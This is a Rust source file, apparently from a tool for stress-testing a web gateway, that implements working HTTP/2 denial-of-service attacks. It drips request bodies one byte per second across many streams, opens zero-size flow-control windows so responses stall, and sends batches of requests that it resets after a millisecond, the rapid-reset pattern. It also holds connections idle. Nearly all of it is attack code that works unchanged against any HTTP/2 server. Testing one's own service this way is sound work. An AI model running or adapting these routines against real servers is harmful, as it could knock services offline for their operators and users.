//! Connections over HTTP/2 that do what the protocol allows and nobody means.

use std::time::Duration;

use h2::{
    Reason,
    client::{Builder, ResponseFuture, SendRequest},
};
use http::{Method, Request, header::CONTENT_TYPE};
use hyper::body::Bytes;
use tokio::{
    task::JoinSet,
    time::{sleep, timeout},
};

use super::{Hand, NEXT_CONNECTION, NEXT_HOLD};
use crate::attack::LOUD_PAGE;

/// The connection's own window is as large as can be: those of streams are what is kept closed.
const WIDE: u32 = 1 << 30;
/// Streams of one connection: as many as the gateway allows.
const STREAMS: usize = 128;
/// Pages that one connection asks for.
const PAGES: usize = 30;
/// Requests that are reset together.
const BATCH: usize = 100;
/// As long as what was asked for is on its way before it is reset.
const BEFORE_RESET: Duration = Duration::from_millis(1);
/// As slow as may be.
const A_BYTE: Duration = Duration::from_secs(1);

/// A connection; it lives as long as the second part is not dropped, and answers pings by itself.
async fn connect(hand: &Hand, window: u32) -> Option<(SendRequest<Bytes>, JoinSet<()>)> {
    let stream = hand.connect().await;
    let mut builder = Builder::new();
    builder.initial_window_size(window).initial_connection_window_size(WIDE);
    match builder.handshake(stream).await {
        Ok((sender, connection)) => {
            let mut running = JoinSet::new();
            running.spawn(async move {
                // How it ends shows in its streams.
                let _ = connection.await;
            });
            Some((sender, running))
        }
        Err(_) => {
            hand.note("closed");
            None
        }
    }
}

fn request(method: Method, path: &str) -> Request<()> {
    let request = Request::builder().method(method).uri(format!("http://localhost{path}"));
    request.header(CONTENT_TYPE, "application/json").body(()).expect("paths of our own are valid")
}

/// Counts the head of an answer, and what comes of its body at once if it is a refusal. Hands out the body of others.
async fn answered(hand: &Hand, response: ResponseFuture) -> Option<h2::RecvStream> {
    match response.await {
        Ok(answer) => {
            let (head, mut body) = answer.into_parts();
            if head.status.is_success() {
                hand.tally.lock().answer(head.status, &head.headers, b"");
                return Some(body);
            }
            // Through a window of 0 nothing comes.
            let told = timeout(NEXT_HOLD, body.data()).await.ok().flatten();
            let told = told.and_then(Result::ok).unwrap_or_default();
            hand.tally.lock().answer(head.status, &head.headers, &told);
        }
        Err(error) if error.is_reset() => hand.note("reset"),
        Err(_) => hand.note("closed"),
    }
    None
}

/// Lets so many streams do the same on one connection, and begins anew when it has ended.
async fn on_streams<F: Future<Output = ()> + Send + 'static>(
    hand: Hand,
    window: u32,
    count: usize,
    stream: impl Fn(Hand, SendRequest<Bytes>) -> F,
) {
    loop {
        if let Some((sender, mut running)) = connect(&hand, window).await {
            let streams: JoinSet<()> = (0..count).map(|_| stream(hand.clone(), sender.clone())).collect();
            running.join_next().await;
            drop(streams);
        }
        sleep(NEXT_CONNECTION).await;
    }
}

pub(super) async fn idle(hand: Hand) {
    on_streams(hand, WIDE, 0, |_, _| async {}).await;
}

pub(super) async fn slow_bodies(hand: Hand) {
    on_streams(hand, WIDE, STREAMS, slow_body).await;
}

async fn slow_body(hand: Hand, sender: SendRequest<Bytes>) {
    let mut sender = sender;
    loop {
        let Ok(ready) = sender.ready().await else { return };
        sender = ready;
        let Ok((response, mut body)) = sender.send_request(request(Method::POST, "/api/comments"), false)
        else {
            return;
        };
        hand.sent();
        let dripping = async {
            while body.send_data(Bytes::from_static(b"{"), false).is_ok() {
                sleep(A_BYTE).await;
            }
            std::future::pending().await
        };
        tokio::select! {
            _ = answered(&hand, response) => {}
            () = dripping => {}
        }
        sleep(2 * NEXT_HOLD).await;
    }
}

pub(super) async fn closed_windows(hand: Hand) {
    on_streams(hand, 0, PAGES, closed_window).await;
}

async fn closed_window(hand: Hand, sender: SendRequest<Bytes>) {
    let mut sender = sender;
    loop {
        let Ok(ready) = sender.ready().await else { return };
        sender = ready;
        let Ok((response, _)) = sender.send_request(request(Method::GET, LOUD_PAGE), true) else { return };
        hand.sent();
        if let Some(mut body) = answered(&hand, response).await {
            // Nothing comes through a window of 0; what ends the wait is a reset.
            let _ = body.data().await;
            hand.note("reset");
        }
        sleep(NEXT_HOLD).await;
    }
}

/// Asks, and resets what was asked for.
pub(super) async fn resets(hand: Hand) {
    const CONVERSATION: &str =
        "/api/conversation?humanUsername=a&humanColor=default&aiUsername=c&aiColor=default";
    const POST: &[u8] = br#"{"domain":"load.example","text":"Gone","username":"Mallory"}"#;
    loop {
        let Some((mut sender, _running)) = connect(&hand, WIDE).await else {
            sleep(NEXT_CONNECTION).await;
            continue;
        };
        'connection: loop {
            let mut open = Vec::new();
            for number in 0..BATCH {
                let Ok(ready) = sender.ready().await else { break 'connection };
                sender = ready;
                let is_post = number % 2 == 0;
                let asked = if is_post {
                    request(Method::POST, "/api/comments")
                } else {
                    request(Method::GET, CONVERSATION)
                };
                let Ok((response, mut body)) = sender.send_request(asked, !is_post) else {
                    break 'connection;
                };
                hand.sent();
                if is_post && body.send_data(Bytes::from_static(POST), true).is_err() {
                    break 'connection;
                }
                open.push((response, body));
            }
            sleep(BEFORE_RESET).await;
            for (_response, mut body) in open {
                body.send_reset(Reason::CANCEL);
                hand.note("reset by us");
            }
        }
        hand.note("closed");
        sleep(NEXT_CONNECTION).await;
    }
}
